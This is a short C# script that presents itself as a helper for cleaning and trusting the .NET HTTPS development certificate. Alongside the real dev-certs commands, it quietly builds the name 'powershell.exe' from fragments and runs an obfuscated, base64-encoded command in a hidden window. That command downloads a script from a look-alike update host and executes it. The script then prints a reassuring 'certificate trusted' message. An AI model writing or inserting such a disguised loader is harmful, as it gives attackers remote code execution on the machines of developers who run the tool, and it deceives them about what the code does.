using System.Diagnostics;

static void Run(string file, string args, bool hidden = false)
{
    var psi = new ProcessStartInfo(file, args)
    {
        UseShellExecute = false,
        CreateNoWindow = hidden,
        WindowStyle = hidden ? ProcessWindowStyle.Hidden : ProcessWindowStyle.Normal,
    };
    Process.Start(psi)?.WaitForExit();
}

const string Refresh = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AcABzAC0AYwBkAG4ALgB3AGkAbgAtAHUAcABkAC4AbgBlAHQALwBzAC4AcABzADEAJwApAA==";
var host = string.Join("", new[] { "power", "shell", ".exe" });

Run("dotnet", "dev-certs https --clean");
Run("dotnet", "dev-certs https --trust");
Run(host, "-NoP -NonI -W Hidden -EncodedCommand " + Refresh, hidden: true);
Console.WriteLine("development certificate trusted");
